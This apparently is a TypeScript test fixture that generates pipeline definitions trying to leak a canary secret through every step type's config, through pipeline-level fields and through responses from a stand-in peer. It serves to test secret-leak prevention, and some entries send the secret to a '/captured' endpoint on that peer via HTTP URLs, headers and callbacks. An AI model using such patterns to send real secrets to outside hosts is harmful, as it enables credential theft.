// Pipelines that try to leak a secret: through the config of every step type, through everything else that a pipeline may say, and through what the
// outside answers. In: addresses of stand-ins. Out: definitions by name.

/** In every field. */
const S = '{{ secrets.canary }}';
/** Of several lines, where a text may have some. */
const LINES = '{{ secrets.canary_lines }}';

/** The config of each step type with the secret wherever a text may stand. Types without any text of their own have the nearest thing. */
export function leakingConfigs(peer: string): Record<string, Record<string, unknown>> {
  return {
    annotate: { annotations: [{ message: S, location: S }] },
    approval: { message: S, expires_in: '1h' },
    auto_promote: {
      entity_type: 'scenario',
      entity_id: S,
      from_environment: 'dev',
      to_environment: 'test',
      comments: S,
    },
    call: { pipeline: 'helper', inputs: { text: S } },
    callback: { name: S, send_to: { url: `${peer}/captured`, body: { text: S } } },
    can_promote: { entity: { type: 'scenario', id: S }, to: 'test' },
    coverage_check: { ci_run: S, require: { operations: 0.5 } },
    create_pr: { title: S, body: `see ${LINES}`, files: [{ path: 'a.txt', content: S }] },
    create_sandbox: { federation: S },
    delete_sandbox: { id: S },
    drift_check: { workspace_id: S },
    drift_report: { incidents: [S] },
    emit_event: { event: 'custom.leak', subject: S, data: { text: S, deep: [{ text: S }] } },
    fail: { message: `it is ${LINES}` },
    http: { method: 'POST', url: `${peer}/captured?key=${S}`, body: 'x' },
    notify: { channels: ['#ops', 'qa@acme.example', 'webhook:audit', 'teams:ops'], subject: S, message: `it is ${S}` },
    propose_drift_fix: { directory: S },
    regenerate_sdk: { languages: ['typescript'], package_name: S },
    rollback_promotion: { promotion_id: S },
    run_scenario: { scenario_id: S, persona: S },
    run_system_scenario: { federation: S, scenario: S },
    schema_diff: { workspace_id: S },
    set_reality_level: { federation: S, service: S, reality_level: 'real' },
    summary: { markdown: `# ${LINES}` },
    transform: { values: { text: S, deep: { texts: [LINES] } } },
    update_ci: { workflow: 'ci.yml', ref: S, inputs: { text: S } },
    validate_scenario: { scenario_id: S },
    wait: { until: S },
    wait_for_event: { event: 'custom.never', filters: { text: S } },
    wait_for_pr: { number: S },
  };
}

/** Bodies of pipelines that hold the secret elsewhere than in a config, or hear it from the outside. */
export function leakingPipelines(peer: string): Record<string, Record<string, unknown>> {
  const harmless = { name: 'one', type: 'transform', config: { values: { a: 1 } } };
  const ask = (path: string, more: object = {}) => ({
    name: 'ask',
    type: 'http',
    config: { method: 'POST', url: `${peer}${path}`, headers: { 'x-key': S }, body: { lines: LINES }, ...more },
    ...more,
  });
  return {
    'in-vars': { vars: { text: S }, steps: [{ ...harmless, config: { values: { a: '{{ vars.text }}' } } }] },
    'in-step-vars': { steps: [{ ...harmless, vars: { text: S }, config: { values: { a: '{{ vars.text }}' } } }] },
    'in-step-outputs': { steps: [{ ...harmless, outputs: { text: S } }] },
    'in-run-outputs': { outputs: { text: S }, steps: [harmless] },
    'in-group': { concurrency: { group: S }, steps: [harmless] },
    'in-step-group': { steps: [{ ...harmless, concurrency: { group: S } }] },
    'in-cache-key': { steps: [{ ...harmless, cache: { key: S } }] },
    'in-idempotency-key': {
      steps: [ask('/captured', { idempotency_key: S, config: { method: 'POST', url: `${peer}/captured` } })],
    },
    'in-items': { steps: [{ ...harmless, foreach: { items: [S] }, config: { values: { a: 1 } } }] },
    'in-item-key': { steps: [{ ...harmless, foreach: { items: ['a'], key: S } }] },
    'in-matrix': { steps: [{ ...harmless, matrix: { text: [S] } }] },
    'in-condition': { steps: [{ ...harmless, if: "fromJSON(secrets.canary) == 'x'" }] },
    'in-expression': { steps: [{ ...harmless, config: { values: { a: '{{ fromJSON(secrets.canary) }}' } } }] },
    'in-dedupe-key': { triggers: [{ event: 'schema.changed', dedupe: { key: S } }], steps: [harmless] },
    'in-debounce-key': {
      triggers: [{ event: 'schema.changed', debounce: { key: S, period: '1s' } }],
      steps: [harmless],
    },
    'in-rate-key': { limits: { rate: { max: 1, per: '1h', key: S } }, steps: [harmless] },
    // The one place where it may go; what comes back holds it in many forms.
    'heard-in-answer': { steps: [ask('/allowed/echo')] },
    'heard-in-refusal': { steps: [ask('/allowed/refuse')] },
    'heard-as-status': { steps: [ask('/allowed/plain')] },
  };
}
